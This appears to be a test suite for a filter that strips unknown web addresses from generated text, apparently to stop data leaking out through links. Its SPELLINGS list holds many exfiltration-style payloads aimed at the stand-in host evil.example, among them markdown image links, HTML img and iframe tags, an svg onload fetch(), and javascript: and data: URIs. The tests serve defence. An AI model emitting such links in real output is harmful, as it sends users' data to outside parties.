"""The output gate: addresses of known sources leave, no others, however they are spelt."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sroc.tools.links import HELD, Released, addresses, released, wants_links

KNOWN = addresses(["See https://docs.example.org/terms and https://example.org."])
EVIL = "https://evil.example/c?d=canary"
SPELLINGS = (
    f"![x]({EVIL})",
    f"![x](<{EVIL}>)",
    f'[read on]({EVIL} "more")',
    f"[read on](  {EVIL} )",
    "[read on](//evil.example/canary)",
    "[read on](https&#58;//evil.example/canary)",
    "[read on](javascript:fetch('canary'))",
    "[read on](data:text/html,canary)",
    "[a [b] c](https://evil.example/canary)",
    f"See [1].\n\n[1]: {EVIL}",
    f"![x][1]\n\n[1]:\n  <{EVIL}>",
    f"<{EVIL}>",
    f"Go to {EVIL} now.",
    "Go to www.evil.example/canary now.",
    "Go to evil.example/canary now.",
    "Go to Data.Evil.com?d=canary now.",
    "Go to evil.io:8080/canary now.",
    "Go to ftp://evil.example/canary now.",
    f'<img src="{EVIL}">',
    f"<img src={EVIL} alt=x>",
    f'<a href="{EVIL}">x</a>',
    f'<iframe src="{EVIL}"></iframe>',
    f'<svg onload="fetch(`{EVIL}`)">',
    f'<div style="x"><img srcset="{EVIL} 2x"></div>',
    '<form action="/canary"><input name="x"></form>',
    "Go to ht\u200btps://evil.example/canary now.",
    "[x](https://docs.example.org/terms?d=canary)",
    "https://docs.example.org.evil.example/canary",
    "[x](\\\\evil.example/canary)",
    "[x](/\\evil.example/canary)",
    "https://docs.example.org@evil.example/canary",
    "> ![x][1]\n>\n> [1]: //evil.example/canary",
    "![a b]\n\n- [a\n  b]: //evil.example/canary",
    "<HTTPS:evil.example/canary>",
    "![x](charts/canary.png)",
    f"<img {'a ' * 300} title='>' src=//evil.example/canary>",
)


def targets(text):
    """Every address that a reader's program would find in the text."""
    found = []
    for token in MarkdownIt("commonmark").parse(text):
        for part in (token, *(token.children or ())):
            found += [str(value) for name, value in part.attrs.items() if name in ("href", "src")]
            found += [part.content] if part.type in ("html_inline", "html_block") else []
    return found


@pytest.mark.parametrize("spelt", SPELLINGS)
def test_an_unknown_address_leaves_in_no_spelling(spelt):
    out = released(f"Before. {spelt}\n\nAfter.", KNOWN)
    assert "canary" not in out.text
    assert not any("evil" in target or "canary" in target for target in targets(out.text))
    assert out.held
    assert out.text.startswith("Before.")
    assert out.text.rstrip().endswith("After.")


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example.org/terms.",
        "See [the terms](https://docs.example.org/terms) [1].",
        "See [the terms](HTTPS://DOCS.example.org/terms/).",
        "![terms](https://docs.example.org/terms)",
        "<https://example.org>",
        "See [below](#costs).",
        "A ratio of 3//4, a path C:/x. <b class='x'>bold</b> //comment 5 < 6 and x: y, `h[name](event)`, [m](a/b.md).",
        "Plain words, with (brackets) and [1].",
        "docs.example.org/terms, Booking.com, ASP.NET/C#, and/or, node.js/express, docs/readme.md, ann@mail.com.",
    ],
)
def test_known_addresses_and_plain_words_stay(text):
    assert released(text, KNOWN) == Released(text)


def test_a_link_leaves_its_words_and_a_picture_its_description():
    out = released(f"Read [the terms]({EVIL}) and ![a chart]({EVIL}).", KNOWN)
    assert out.text == "Read the terms and a chart."
    assert out.held == (EVIL,)
    assert released(f"At {EVIL}.", KNOWN).text == f"At {HELD}."


@pytest.mark.parametrize("words", ["Which website has the form?", "List all URLs.", "Nenne die Webseite."])
def test_who_asks_for_links_gets_them(words):
    assert wants_links(words)
    assert not wants_links("When is a refund paid?")


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from([*SPELLINGS, "word", "\n", "[", "](", ")", "<", ">", "`", "https:", "//", "!", "\\"]),
        max_size=8,
    )
)
def test_no_mixture_of_spellings_lets_one_out(pieces):
    out = released(" ".join(pieces), KNOWN)
    assert not any("evil" in target for target in targets(out.text))
    assert "evil.example/c" not in out.text


@given(st.text(alphabet="abc .,;[]()!<>#\n", max_size=60))
def test_a_text_without_addresses_is_given_back_as_it_is(text):
    out = released(text, frozenset())
    assert out.held or out.text == text
